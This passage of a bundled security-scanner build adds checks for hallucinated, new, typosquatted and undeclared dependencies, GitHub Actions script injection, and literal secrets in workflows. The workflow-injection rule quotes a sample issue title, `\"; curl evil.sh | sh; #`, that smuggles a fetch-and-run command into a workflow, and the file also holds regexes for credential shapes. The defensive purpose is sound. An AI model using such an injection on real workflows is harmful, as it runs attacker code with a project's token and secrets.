orflow-cpu","tensorflow-gpu","tensorflow-macos","tf-nightly"],"pytorch_lightning":["pytorch-lightning","lightning"],"umap":["umap-learn"],"imblearn":["imbalanced-learn"],"talib":["TA-Lib"],"Bio":["biopython"],"osgeo":["GDAL"],"kafka":["kafka-python","kafka-python-ng"],"paho":["paho-mqtt"],"websocket":["websocket-client"],"ldap":["python-ldap"],"saml2":["pysaml2"],"onelogin":["python3-saml"],"socks":["PySocks"],"sockshandler":["PySocks"],"memcache":["python-memcached"],"gnupg":["python-gnupg","gnupg"],"nmap":["python-nmap"],"Xlib":["python-xlib"],"snappy":["python-snappy"],"opensearchpy":["opensearch-py"],"snowflake":["snowflake-connector-python","snowflake-sqlalchemy","snowflake-snowpark-python"],"databricks":["databricks-sdk","databricks-sql-connector","databricks-connect"],"pyspark":["pyspark","databricks-connect"],"delta":["delta-spark"],"airflow":["apache-airflow"],"dbt":["dbt-core"],"opentelemetry":["opentelemetry-*"],"pythonjsonlogger":["python-json-logger"],"u":["u-msgpack-python"],"msgpack":["msgpack","msgpack-python"],"pyximport":["Cython"],"llama_index":["llama-index","llama-index-core"],"googlesearch":["googlesearch-python"],"seleniumwire":["selenium-wire"],"appium":["Appium-Python-Client"],"box":["python-box"],"hcl":["pyhcl"],"hcl2":["python-hcl2"],"docopt":["docopt","docopt-ng"],"OpenGL":["PyOpenGL"],"pygame":["pygame","pygame-ce"],"cairo":["pycairo"],"usb1":["libusb1"],"bluetooth":["PyBluez"],"shapefile":["pyshp"],"speech_recognition":["SpeechRecognition"],"whisper":["openai-whisper"],"ffmpeg":["ffmpeg-python"],"vlc":["python-vlc"],"discord":["discord.py","py-cord"],"jenkins":["python-jenkins"],"gitlab":["python-gitlab"],"github":["PyGithub"],"atlassian":["atlassian-python-api"],"pkcs11":["python-pkcs11"],"smb":["pysmb"],"smbclient":["smbprotocol"],"kerberos":["kerberos","pykerberos"],"spnego":["pyspnego"],"ntlm":["python-ntlm"],"win32crypt":["pywin32"],"_cffi_backend":["cffi"],"yaml_include":["pyyaml-include"],"fastapi":["fastapi","fastapi-slim"],"starlette":["starlette","fastapi"],"pinecone":["pinecone-client","pinecone"],"weaviate":["weaviate-client"],"en_core_web_sm":["en-core-web-sm","spacy"]}}');
+;// CONCATENATED MODULE: ./data/python-stdlib.json
+const python_stdlib_namespaceObject = /*#__PURE__*/JSON.parse('{"a":["__builtin__","__future__","_abc","_aix_support","_ast","_asyncio","_bisect","_blake2","_bootsubprocess","_bz2","_codecs","_codecs_cn","_codecs_hk","_codecs_iso2022","_codecs_jp","_codecs_kr","_codecs_tw","_collections","_collections_abc","_compat_pickle","_compression","_contextvars","_crypt","_csv","_ctypes","_curses","_curses_panel","_datetime","_dbm","_decimal","_elementtree","_frozen_importlib","_frozen_importlib_external","_functools","_gdbm","_hashlib","_heapq","_imp","_io","_json","_locale","_lsprof","_lzma","_markupbase","_md5","_msi","_multibytecodec","_multiprocessing","_opcode","_operator","_osx_support","_overlapped","_pickle","_posixshmem","_posixsubprocess","_py_abc","_pydecimal","_pyio","_queue","_random","_scproxy","_sha1","_sha256","_sha3","_sha512","_signal","_sitebuiltins","_socket","_sqlite3","_sre","_ssl","_stat","_statistics","_string","_strptime","_struct","_symtable","_thread","_threading_local","_tkinter","_tokenize","_tracemalloc","_typing","_uuid","_warnings","_weakref","_weakrefset","_winapi","_zoneinfo","abc","aifc","annotationlib","antigravity","anydbm","argparse","array","ast","asynchat","asyncio","asyncore","atexit","audioop","base64","BaseHTTPServer","bdb","binascii","bisect","builtins","bz2","calendar","cgi","CGIHTTPServer","cgitb","chunk","cmath","cmd","code","codecs","codeop","collections","colorsys","commands","compileall","compression","concurrent","ConfigParser","configparser","contextlib","contextvars","Cookie","cookielib","copy","copy_reg","copyreg","cPickle","cProfile","crypt","cStringIO","csv","ctypes","curses","dataclasses","datetime","dbhash","dbm","decimal","difflib","dis","distutils","doctest","dumbdbm","dummy_thread","email","encodings","ensurepip","enum","errno","exceptions","faulthandler","fcntl","filecmp","fileinput","fnmatch","fractions","ftplib","functools","gc","gdbm","genericpath","getopt","getpass","gettext","glob","graphlib","grp","gzip","hashlib","heapq","hmac","html","htmlentitydefs","htmllib","HTMLParser","http","httplib","idlelib","imaplib","imghdr","imp","importlib","inspect","io","ipaddress","itertools","json","keyword","lib2to3","linecache","locale","logging","lzma","mailbox","mailcap","marshal","math","md5","mimetools","mimetypes","mmap","modulefinder","msilib","msvcrt","multifile","multiprocessing","netrc","new","nis","nntplib","nt","ntpath","nturl2path","numbers","opcode","operator","optparse","os","ossaudiodev","pathlib","pdb","pickle","pickletools","pipes","pkgutil","platform","plistlib","popen2","poplib","posix","posixpath","pprint","profile","pstats","pty","pwd","py_compile","pyclbr","pydoc","pydoc_data","pyexpat","queue","Queue","quopri","random","re","readline","repr","reprlib","resource","rfc822","rlcompleter","robotparser","runpy","sched","secrets","select","selectors","sets","sgmllib","sha","shelve","shlex","shutil","signal","SimpleHTTPServer","site","smtpd","smtplib","sndhdr","socket","socketserver","SocketServer","spwd","sqlite3","sre_compile","sre_constants","sre_parse","ssl","stat","statistics","string","StringIO","stringprep","struct","subprocess","sunau","symtable","sys","sysconfig","syslog","tabnanny","tarfile","telnetlib","tempfile","termios","textwrap","this","thread","threading","time","timeit","tkinter","Tkinter","tkMessageBox","token","tokenize","tomllib","trace","traceback","tracemalloc","ttk","tty","turtle","turtledemo","types","typing","unicodedata","unittest","urllib","urllib2","urlparse","UserDict","UserList","UserString","uu","uuid","venv","warnings","wave","weakref","webbrowser","whichdb","winreg","winsound","wsgiref","xdrlib","xml","xmlrpc","xmlrpclib","zipapp","zipfile","zipimport","zlib","zoneinfo"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/undeclared.ts
+
+
+
+const STDLIB = new Set(python_stdlib_namespaceObject.a.map((name) => name.toLowerCase()));
+const NAMED = python_import_names_namespaceObject.V;
+/** Import name (lower case) → distributions that provide it; `prefix*` matches a family. */
+const PROVIDERS = new Map(Object.entries(NAMED).map(([module, dists]) => [
+    module.toLowerCase(),
+    dists.map((dist) => (dist.endsWith('*') ? dist : normalizePypiName(dist))),
+]));
+/** The distributions known to provide a Python import whose name differs from theirs, as they spell them. */
+function knownProviders(module) {
+    const entry = Object.entries(NAMED).find(([name]) => name.toLowerCase() === module.toLowerCase());
+    return (entry?.[1] ?? []).filter((dist) => !dist.endsWith('*')).slice(0, 2);
+}
+const stemOf = (name) => name.replace(/\.d\.[cm]?ts$/i, '').replace(/\.[^.]+$/, '');
+/** Directory names and file stems of the repository: `import utils` may mean the repository's own utils.py. */
+function localModuleNames(files, source) {
+    const names = new Set();
+    for (const file of files) {
+        if (!source.test(file))
+            continue;
+        const parts = file.split('/');
+        const stem = stemOf(parts.pop() ?? '');
+        for (const part of [...parts, stem])
+            names.add(part);
+    }
+    return names;
+}
+function providedBy(dist, declared) {
+    if (!dist.endsWith('*'))
+        return declared.has(dist);
+    const prefix = normalizePypiName(dist.slice(0, -1));
+    return [...declared].some((name) => name.startsWith(prefix));
+}
+/**
+ * Names a bare JavaScript specifier may use for the repository's own code through a `baseUrl` or path
+ * alias: the entries directly in each package's directory and in its `src/`.
+ */
+function jsLocalNames(files, manifestDirs) {
+    const names = new Set();
+    for (const file of files) {
+        for (const dir of enclosingManifests(file, manifestDirs)) {
+            const [first = '', second] = (dir === '' ? file : file.slice(dir.length + 1)).split('/');
+            names.add(stemOf(first));
+            if (first === 'src' && second !== undefined)
+                names.add(stemOf(second));
+        }
+    }
+    return names;
+}
+/** Whether a Python top-level module is the standard library's, the repository's own or declared. */
+function pythonImportSatisfied(module, declared, local) {
+    if (STDLIB.has(module.toLowerCase()) || local.has(module))
+        return true;
+    const name = normalizePypiName(module);
+    const conventional = [
+        name,
+        `python-${name}`,
+        `${name}-python`,
+        `py${name}`,
+        `py-${name}`,
+        `${name}-binary`,
+    ];
+    if (conventional.some((candidate) => declared.has(candidate)))
+        return true;
+    return (PROVIDERS.get(module.toLowerCase()) ?? []).some((dist) => providedBy(dist, declared));
+}
+/** DefinitelyTyped's name for a package's types: `x` → `@types/x`, `@s/x` → `@types/s__x`. */
+function typesPackage(name) {
+    return `@types/${name.startsWith('@') ? name.slice(1).replace('/', '__') : name}`;
+}
+/** The package.json directories whose dependencies a file may use: its own and every enclosing one. */
+function enclosingManifests(path, manifestDirs) {
+    return manifestDirs.filter((dir) => dir === '' || path.startsWith(`${dir}/`));
+}
+/** The scope a JavaScript import is judged in (its nearest package.json), or undefined when it is fine. */
+function npmImportScope(site, scopes) {
+    const dirs = enclosingManifests(site.path, [...scopes.declaredByDir.keys()]);
+    if (dirs.length === 0 || scopes.workspaceNames.has(site.module))
+        return undefined;
+    if (!site.module.startsWith('@') && scopes.local.has(site.module))
+        return undefined;
+    const declared = (name) => dirs.some((dir) => scopes.declaredByDir.get(dir)?.has(name) === true);
+    if (declared(site.module) || (site.typeOnly && declared(typesPackage(site.module))))
+        return undefined;
+    return dirs.reduce((nearest, dir) => (dir.length > nearest.length ? dir : nearest));
+}
+/** Groups undeclared imports by scope and package, keeping the first site (by path, then line). */
+function firstSites(sites) {
+    const groups = new Map();
+    const ordered = [...sites].sort((a, b) => a.site.path.localeCompare(b.site.path) || a.site.region.startLine - b.site.region.startLine);
+    for (const { scope, site } of ordered) {
+        const key = `${site.ecosystem}\u0000${scope}\u0000${site.module}`;
+        const group = groups.get(key) ?? { scope, first: site, files: new Set() };
+        group.files.add(site.path);
+        groups.set(key, group);
+    }
+    return [...groups.values()].map(({ scope, first, files }) => ({
+        scope,
+        first,
+        otherFiles: files.size - 1,
+    }));
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/undeclared-pass.ts
+
+
+
+
+/** Installed, vendored, built or minified code: its imports are not the repository's to declare. */
+const NOT_OWN_SOURCE = /(?:^|\/)(?:node_modules|bower_components|vendor|dist|\.next|\.nuxt|coverage|site-packages|\.venv|venv)\/|\.min\.[cm]?js$/i;
+const READ_CONCURRENCY = 16;
+async function sitesOf(repo, files, extract) {
+    const perFile = await mapConcurrent(files, READ_CONCURRENCY, async (path) => {
+        const text = await repo.readText(path);
+        return text === undefined ? [] : extract(path, text);
+    });
+    return perFile.flat();
+}
+function describeNpmScope(path, dirs) {
+    const manifests = enclosingManifests(path, dirs)
+        .sort((a, b) => b.length - a.length)
+        .map((dir) => (dir === '' ? 'package.json' : `${dir}/package.json`));
+    return `no package.json in scope (${manifests.join(', ')})`;
+}
+/** JavaScript and TypeScript files under some package.json, against what those package.json files declare. */
+async function npmUndeclared(repo, manifests, rule) {
+    const dirs = [...manifests.npmDeclared.keys()];
+    if (dirs.length === 0)
+        return [];
+    const files = repo.files.filter((file) => JS_SOURCE.test(file) && !NOT_OWN_SOURCE.test(file));
+    const scopes = {
+        declaredByDir: manifests.npmDeclared,
+        workspaceNames: manifests.workspaceNames,
+        local: jsLocalNames(repo.files, dirs),
+    };
+    const undeclared = (await sitesOf(repo, files, jsImports)).flatMap((site) => {
+        const scope = npmImportScope(site, scopes);
+        return scope === undefined ? [] : [{ scope, site }];
+    });
+    return firstSites(undeclared).map((found) => undeclaredImport(rule, found, describeNpmScope(found.first.path, dirs)));
+}
+/** Python files under a Python project directory, against what that project (and enclosing ones) declare. */
+async function pythonUndeclared(repo, manifests, rule) {
+    const dirs = [...manifests.pythonDeclared.keys()];
+    if (dirs.length === 0)
+        return [];
+    const files = repo.files.filter((file) => PYTHON_SOURCE.test(file) && !NOT_OWN_SOURCE.test(file) && enclosingManifests(file, dirs).length > 0);
+    const local = localModuleNames(repo.files, PYTHON_SOURCE);
+    const undeclared = (await sitesOf(repo, files, pythonImports)).flatMap((site) => {
+        const scopes = enclosingManifests(site.path, dirs);
+        const declared = new Set(scopes.flatMap((dir) => [...(manifests.pythonDeclared.get(dir) ?? [])]));
+        if (pythonImportSatisfied(site.module, declared, local))
+            return [];
+        return [{ scope: scopes.reduce((a, b) => (b.length > a.length ? b : a)), site }];
+    });
+    const checked = (dir) => `no requirements file, pyproject.toml or Pipfile of ${dir === '' ? 'the repository' : `${dir}/`}`;
+    return firstSites(undeclared).map((found) => undeclaredImport(rule, found, checked(found.scope), knownProviders(found.first.module)));
+}
+/**
+ * Imports of third-party packages that no manifest declares, one finding per package and scope, at its
+ * first import. Only where the repository has a manifest of that ecosystem: without one there is
+ * nothing to compare with.
+ */
+async function undeclaredImports(repo, manifests, rule) {
+    const [npm, python] = await Promise.all([
+        npmUndeclared(repo, manifests, rule),
+        pythonUndeclared(repo, manifests, rule),
+    ]);
+    return [...npm, ...python];
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/dependency-hallucination.ts
+
+
+
+
+
+
+
+
+
+
+
+
+const dependency_hallucination_DAY_MS = 24 * 60 * 60 * 1000;
+const DEPENDENCY_RULES = {
+    hallucination: ruleFromMeta(dependency_hallucination_namespaceObject),
+    newPackage: ruleFromMeta(dependency_new_package_namespaceObject),
+    typosquat: ruleFromMeta(dependency_typosquat_namespaceObject),
+    undeclared: ruleFromMeta(dependency_undeclared_import_namespaceObject),
+};
+function positive(name, value, integer) {
+    if (!Number.isFinite(value) || value <= 0 || (integer && !Number.isInteger(value))) {
+        throw new RangeError(`dependency-hallucination: ${name} must be a positive ${integer ? 'integer' : 'number'}`);
+    }
+    return value;
+}
+function settingsOf(options) {
+    return {
+        npmRegistry: options.npmRegistry ?? 'https://registry.npmjs.org',
+        pypiUrl: options.pypiUrl ?? 'https://pypi.org',
+        minAgeDays: positive('minAgeDays', options.minAgeDays ?? 30, false),
+        concurrency: positive('concurrency', options.concurrency ?? 8, true),
+        timeoutMs: positive('timeoutMs', options.timeoutMs ?? 10_000, true),
+        offline: options.offline ?? false,
+    };
+}
+function squatOf(plan, squats) {
+    const { ecosystem, registryName } = plan.declaration;
+    if (!plan.isPublic)
+        return undefined;
+    const key = `${ecosystem}\u0000${registryName}`;
+    if (!squats.has(key))
+        squats.set(key, likelyTyposquat(registryName, POPULAR[ecosystem]));
+    return squats.get(key);
+}
+function isNew(created, judging) {
+    const minimumMs = judging.settings.minAgeDays * dependency_hallucination_DAY_MS;
+    return created !== undefined && judging.now.getTime() - created.getTime() < minimumMs;
+}
+/** At most one finding per fact: a missing package's look-alike is named in its message, not reported again. */
+function detectionsFor(plan, judging) {
+    const { declaration, request } = plan;
+    const answer = request === undefined ? undefined : judging.answers.get(request.key);
+    const squat = squatOf(plan, judging.squats);
+    if (answer?.kind === 'missing') {
+        const context = {
+            registry: request?.registry ?? '',
+            isPublic: plan.isPublic,
+            ...(squat === undefined ? {} : { squat }),
+            ...(answer.detail === undefined ? {} : { detail: answer.detail }),
+        };
+        return [hallucinated(DEPENDENCY_RULES.hallucination, declaration, context)];
+    }
+    const found = squat === undefined ? [] : [typosquat(DEPENDENCY_RULES.typosquat, declaration, squat)];
+    const created = answer?.kind === 'found' ? answer.created : undefined;
+    if (plan.isPublic && isNew(created, judging)) {
+        const context = { created, now: judging.now, minAgeDays: judging.settings.minAgeDays };
+        found.push(newlyPublished(DEPENDENCY_RULES.newPackage, declaration, context));
+    }
+    return found;
+}
+/** One note per registry that failed for some packages, naming how many and why. */
+function unreachableNotes(plans, answers) {
+    const byRegistry = new Map();
+    for (const { request } of plans) {
+        if (request === undefined)
+            continue;
+        const entry = byRegistry.get(request.registry) ?? { total: new Set(), failed: new Set(), reasons: [] };
+        entry.total.add(request.key);
+        const answer = answers.get(request.key);
+        if (answer?.kind === 'unavailable') {
+            entry.failed.add(request.key);
+            entry.reasons.push(answer.reason);
+        }
+        byRegistry.set(request.registry, entry);
+    }
+    return [...byRegistry.entries()]
+        .filter(([, entry]) => entry.failed.size > 0)
+        .map(([registry, entry]) => unreachable(registry, entry.reasons, entry.failed.size, entry.total.size));
+}
+async function lookUp(plans, repo, settings) {
+    const requests = plans.flatMap((plan) => (plan.request === undefined ? [] : [plan.request]));
+    if (settings.offline) {
+        const notes = requests.length === 0 ? [] : [offline(new Set(requests.map((request) => request.key)).size)];
+        return { answers: new Map(), notes };
+    }
+    const { concurrency, timeoutMs } = settings;
+    const answers = await lookUpAll(requests, { http: repo.http, concurrency, timeoutMs });
+    return { answers, notes: unreachableNotes(plans, answers) };
+}
+async function dependency_hallucination_run(repo, settings) {
+    const manifests = await readManifests(repo);
+    const registries = { ...settings, scopeRegistries: manifests.scopeRegistries };
+    const plans = manifests.declarations.map((declaration) => planLookup(declaration, registries));
+    const [{ answers, notes }, undeclared] = await Promise.all([
+        lookUp(plans, repo, settings),
+        undeclaredImports(repo, manifests, DEPENDENCY_RULES.undeclared),
+    ]);
+    const judging = { settings, now: repo.clock.now(), answers, squats: new Map() };
+    const detections = [...plans.flatMap((plan) => detectionsFor(plan, judging)), ...undeclared];
+    return { detections, notes: [...manifests.notes, ...notes] };
+}
+/**
+ * Declared dependencies that do not exist (possible hallucinations), were published days ago or imitate
+ * popular names, and imports no manifest declares. Registry failures are a note, never a finding.
+ */
+function createDependencyHallucinationCheck(options = {}) {
+    const settings = settingsOf(options);
+    return {
+        id: 'dependency-hallucination',
+        rules: Object.values(DEPENDENCY_RULES),
+        run: (repo) => dependency_hallucination_run(repo, settings),
+    };
+}
+
+;// CONCATENATED MODULE: ./data/checks/workflow-injection.json
+const workflow_injection_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"workflow-injection","title":"Attacker-controlled text expanded into a workflow script","description":"A `run:` script or the `script:` of actions/github-script contains a `${{ … }}` expression that expands text an outsider controls: the title or body of an issue, pull request, comment or review, a branch name, a commit message or author, a wiki page name. GitHub substitutes the text into the script before the shell or JavaScript runs it, so a title such as `\\"; curl evil.sh | sh; #` becomes code running with the workflow\'s token and secrets.","help":"Never expand untrusted context values inside a script. Pass them to the step as environment variables and use the variable, quoted, so the shell treats the value as data:\\n\\n```yaml\\n# instead of\\n- run: echo \\"${{ github.event.issue.title }}\\"\\n# write\\n- env:\\n    TITLE: ${{ github.event.issue.title }}\\n  run: echo \\"$TITLE\\"\\n```\\n\\nIn actions/github-script, read the value from `context.payload` or from `process.env` instead of expanding it into `script:`. Whole objects such as `toJSON(github.event)` carry the same text and need the same treatment. Where possible, also give the workflow\'s token only the permissions it needs.\\n\\nReferences:\\n- GitHub, [Script injections](https://docs.github.com/en/actions/concepts/security/script-injections)\\n- GitHub Security Lab, [Keeping your GitHub Actions and workflows secure: untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)","helpUri":"https://docs.github.com/en/actions/concepts/security/script-injections","cwe":["CWE-78","CWE-94"],"severity":"high","security-severity":8.8,"precision":"high","tags":["security","injection","github-actions"],"asvs":["v5.0.0-1.2.5","v5.0.0-1.3.2"],"$comment":"Context paths whose values outsiders control, after GitHub\'s own list (contexts ending in body, default_branch, email, head_ref, label, message, name, page_name, ref, title) and GitHub Security Lab\'s. `*` stands for one array index or object filter. An expression naming a path, or an object that contains one (toJSON(github.event)), is reported.","untrusted-contexts":["github.head_ref","github.event.issue.title","github.event.issue.body","github.event.pull_request.title","github.event.pull_request.body","github.event.pull_request.head.ref","github.event.pull_request.head.label","github.event.pull_request.head.repo.default_branch","github.event.comment.body","github.event.review.body","github.event.review_comment.body","github.event.discussion.title","github.event.discussion.body","github.event.pages.*.page_name","github.event.commits.*.message","github.event.commits.*.author.email","github.event.commits.*.author.name","github.event.commits.*.committer.email","github.event.commits.*.committer.name","github.event.head_commit.message","github.event.head_commit.author.email","github.event.head_commit.author.name","github.event.head_commit.committer.email","github.event.head_commit.committer.name","github.event.workflow_run.head_branch","github.event.workflow_run.display_title","github.event.workflow_run.head_commit.message","github.event.workflow_run.head_commit.author.email","github.event.workflow_run.head_commit.author.name","github.event.workflow_run.pull_requests.*.head.ref"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/workflow-model.ts
+
+
+/** GitHub reads workflows only from this directory, not from its subdirectories. */
+const workflow_model_WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$/;
+const workflow_model_ACTION_METADATA = /(?:^|\/)action\.ya?ml$/;
+const isWorkflow = (path) => workflow_model_WORKFLOW.test(path);
+const isWorkflowOrAction = (path) => workflow_model_WORKFLOW.test(path) || workflow_model_ACTION_METADATA.test(path);
+/**
+ * Parses a workflow or action file, answering undefined when it is not valid YAML. The checks on these files
+ * stay silent then: actions-unpinned reads the same files and already reports each one that does not parse,
+ * and one note per file is enough.
+ */
+function parseWorkflowFile(file) {
+    const parsed = parseYaml(file);
+    return parsed.kind === 'parsed' ? parsed : undefined;
+}
+function jobsOf(document) {
+    return entriesOf(yaml_nodes_valueOf(document.contents, 'jobs', document), document).map((entry) => ({
+        id: entry.key,
+        node: entry.value,
+    }));
+}
+function compositeSteps(document) {
+    const runs = yaml_nodes_valueOf(document.contents, 'runs', document);
+    if (stringOf(yaml_nodes_valueOf(runs, 'using', document))
+        ?.trim()
+        .toLowerCase() !== 'composite')
+        return [];
+    return yaml_nodes_itemsOf(yaml_nodes_valueOf(runs, 'steps', document), document).map((node, at) => ({
+        node,
+        job: undefined,
+        index: at + 1,
+    }));
+}
+/** Every step of every job of a workflow, or of a composite action (other actions have no steps). */
+function stepsOf(path, document) {
+    if (!isWorkflow(path))
+        return compositeSteps(document);
+    return jobsOf(document).flatMap((job) => yaml_nodes_itemsOf(yaml_nodes_valueOf(job.node, 'steps', document), document).map((node, at) => ({
+        node,
+        job: job.id,
+        index: at + 1,
+    })));
+}
+/** How a message names a step: by its `name:` when it has one, else by position. */
+function describeStep(step, document) {
+    const name = stringOf(yaml_nodes_valueOf(step.node, 'name', document));
+    const which = name === undefined ? `step ${step.index}` : `step "${name.slice(0, 80)}"`;
+    return step.job === undefined ? which : `${which} of job \`${step.job}\``;
+}
+/** The events a workflow runs on: `on:` as one name, a list of names or a mapping keyed by event. */
+function triggersOf(document) {
+    const on = yaml_nodes_valueOf(document.contents, 'on', document);
+    const single = stringOf(on);
+    if (single !== undefined)
+        return new Set([single.trim()]);
+    const listed = yaml_nodes_itemsOf(on, document).flatMap((item) => stringOf(item) ?? []);
+    const keyed = entriesOf(on, document).map((entry) => entry.key);
+    return new Set([...listed, ...keyed].map((event) => event.trim()));
+}
+/** Whether a step runs the action `name` (any version; matching is case-insensitive, like GitHub's). */
+function workflow_model_stepUses(step, name, document) {
+    const uses = stringOf(yaml_nodes_valueOf(step.node, 'uses', document))
+        ?.trim()
+        .toLowerCase();
+    return uses !== undefined && (uses === name || uses.startsWith(`${name}@`));
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/workflow-injection.ts
+
+
+
+
+
+const UNTRUSTED = dataStrings(workflow_injection_namespaceObject, 'untrusted-contexts').map((path) => path.toLowerCase().split('.'));
+const CONTEXT_PATH = /(?<![\w.-])github(?:\.(?:[a-z_][\w-]*|\*))*/g;
+const MAX_EVIDENCE = 200;
+function sinksOf(path, document) {
+    return stepsOf(path, document).flatMap((step) => {
+        const where = describeStep(step, document);
+        const run = stringScalar(yaml_nodes_valueOf(step.node, 'run', document));
+        const script = workflow_model_stepUses(step, 'actions/github-script', document)
+            ? stringScalar(yaml_nodes_valueOf(yaml_nodes_valueOf(step.node, 'with', document), 'script', document))
+            : undefined;
+        return [
+            ...(run ? [{ scalar: run, kind: 'run', step: where }] : []),
+            ...(script ? [{ scalar: script, kind: 'script', step: where }] : []),
+        ];
+    });
+}
+/** Context names are case-insensitive; `a['b']` is `a.b`, `a[0]` is `a.*`; string literals are not names. */
+function normalize(expression) {
+    return expression
+        .toLowerCase()
+        .replace(/\[\s*'([^']*)'\s*\]/g, '.$1')
+        .replace(/\[\s*(?:\d+|\*)\s*\]/g, '.*')
+        .replace(/'(?:[^']|'')*'/g, "''")
+        .replace(/\s*\.\s*/g, '.');
+}
+/** A path names an untrusted value, or an object holding one (`toJSON(github.event)`). */
+function untrustedPattern(path) {
+    return UNTRUSTED.find((pattern) => path.length <= pattern.length &&
+        path.every((segment, at) => segment === '*' || pattern[at] === '*' || segment === pattern[at]));
+}
+/** How a message names each untrusted value an expression expands. */
+function untrustedValues(expression) {
+    const named = new Set();
+    for (const match of normalize(expression).matchAll(CONTEXT_PATH)) {
+        const path = match[0].split('.');
+        const pattern = untrustedPattern(path);
+        if (pattern === undefined)
+            continue;
+        named.add(path.length === pattern.length
+            ? `\`${match[0]}\``
+            : `\`${match[0]}\` (which holds \`${pattern.join('.')}\`)`);
+    }
+    return [...named];
+}
+/** The `${{ … }}` expressions as written in the scalar's source, so positions are exact in block scalars too. */
+function expressionsIn(text, scalar) {
+    if (!scalar.range)
+        return [];
+    const [from, to] = scalar.range;
+    const source = text.slice(from, to);
+    const found = [];
+    let open = source.indexOf('${{');
+    while (open >= 0) {
+        const close = source.indexOf('}}', open + 3);
+        if (close < 0)
+            break;
+        found.push({ start: from + open, end: from + close + 2, text: source.slice(open, close + 2) });
+        open = source.indexOf('${{', close + 2);
+    }
+    return found;
+}
+function messageFor(sink, expression, values) {
+    const shown = expression.text.length > 80 ? `${expression.text.slice(0, 79)}…` : expression.text;
+    const what = `\`${shown}\` puts text that outside contributors control (${values.join(', ')})`;
+    return sink.kind === 'run'
+        ? `Script injection: ${what} into the \`run:\` script of ${sink.step}; GitHub pastes it in before the ` +
+            'shell runs, so it can inject commands. Pass it through `env:` and use the quoted variable instead.'
+        : `Code injection: ${what} into the \`script:\` of actions/github-script in ${sink.step}, where it runs ` +
+            'as JavaScript. Pass it through `env:` and read `process.env` instead.';
+}
+function workflow_injection_detectionsFor(sink, context) {
+    return expressionsIn(context.file.text, sink.scalar).flatMap((expression) => {
+        const values = untrustedValues(expression.text);
+        if (values.length === 0)
+            return [];
+        const start = context.lines.linePos(expression.start);
+        const end = context.lines.linePos(expression.end);
+        const evidence = expression.text.slice(0, MAX_EVIDENCE);
+        return [
+            {
+                ruleId: context.rule.id,
+                message: messageFor(sink, expression, values),
+                location: {
+                    path: context.file.path,
+                    region: { startLine: start.line, startColumn: start.col, endLine: end.line, endColumn: end.col },
+                },
+                evidence: expression.text.length > MAX_EVIDENCE ? `${evidence}…` : evidence,
+            },
+        ];
+    });
+}
+function workflow_injection_run(file, rule) {
+    const parsed = parseWorkflowFile(file);
+    if (parsed === undefined)
+        return SKIP;
+    // An anchored script reused through aliases is one place to fix: report it once, where it is written.
+    const sinks = new Map();
+    for (const document of parsed.documents) {
+        for (const sink of sinksOf(file.path, document))
+            if (!sinks.has(sink.scalar))
+                sinks.set(sink.scalar, sink);
+    }
+    const detections = [...sinks.values()]
+        .sort((a, b) => (a.scalar.range?.[0] ?? 0) - (b.scalar.range?.[0] ?? 0))
+        .flatMap((sink) => workflow_injection_detectionsFor(sink, { file, lines: parsed.lines, rule }));
+    return detections.length === 0 ? SKIP : { detections, notes: [] };
+}
+const workflowInjection = defineCheck({ meta: workflow_injection_namespaceObject, appliesTo: isWorkflowOrAction, run: workflow_injection_run });
+
+;// CONCATENATED MODULE: ./data/checks/workflow-literal-secret.json
+const workflow_literal_secret_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"workflow-literal-secret","title":"Secret written literally in a workflow","description":"An `env:`, `with:` or container credential in a workflow or composite action holds a literal credential: a value with the shape of a known token (GitHub, AWS, Slack, Stripe, Google, GitLab, npm, PyPI, OpenAI, Anthropic, a private key) or a random-looking value under a key named like a token, password, secret or API key. Everyone who can read the repository, its forks and its history can read it, and it is not masked in logs.","help":"Treat the credential as leaked: revoke or rotate it first, because it stays in the Git history even after the line is removed. Then store it as an encrypted secret (repository, environment or organization) and reference it:\\n\\n```yaml\\nenv:\\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\\n```\\n\\nBetter still, avoid long-lived credentials altogether: use the job\'s `GITHUB_TOKEN` for GitHub, and OpenID Connect for cloud providers and package registries that support trusted publishing.\\n\\nReferences:\\n- GitHub, [Using secrets in GitHub Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions)\\n- GitHub, [About security hardening with OpenID Connect](https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect)\\n- OWASP, [Secrets Management Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html)","helpUri":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions","cwe":["CWE-798"],"severity":"high","security-severity":8.2,"precision":"high","tags":["security","secrets","github-actions"],"asvs":["v5.0.0-13.3.1"],"$comment":"token-shapes: matched anywhere in a value, whatever its key. secret-key-names: a key whose lower-cased name contains one of these holds a secret unless its name contains one of not-secret-key-parts; its value is then reported when it is literal, at least min-length characters without spaces, not only digits, at least min-entropy bits per character (Shannon), and free of placeholder-words.","token-shapes":[{"name":"a GitHub personal access token","pattern":"(?<![A-Za-z0-9_])ghp_[A-Za-z0-9]{36}(?![A-Za-z0-9_])"},{"name":"a GitHub fine-grained personal access token","pattern":"(?<![A-Za-z0-9_])github_pat_[A-Za-z0-9_]{50,}"},{"name":"a GitHub OAuth or app token","pattern":"(?<![A-Za-z0-9_])gh[osur]_[A-Za-z0-9]{36}(?![A-Za-z0-9_])"},{"name":"a Slack token","pattern":"(?<![A-Za-z0-9_])xox[baprs]-[A-Za-z0-9-]{10,}"},{"name":"an AWS access key id","pattern":"(?<![A-Za-z0-9])(?:AKIA|ASIA)[0-9A-Z]{16}(?![A-Za-z0-9])"},{"name":"a Stripe live secret key","pattern":"(?<![A-Za-z0-9_])[rs]k_live_[A-Za-z0-9]{16,}"},{"name":"a Google API key","pattern":"(?<![A-Za-z0-9_-])AIza[0-9A-Za-z_-]{35}(?![A-Za-z0-9_-])"},{"name":"a GitLab personal access token","pattern":"(?<![A-Za-z0-9_])glpat-[A-Za-z0-9_-]{20,}"},{"name":"an npm access 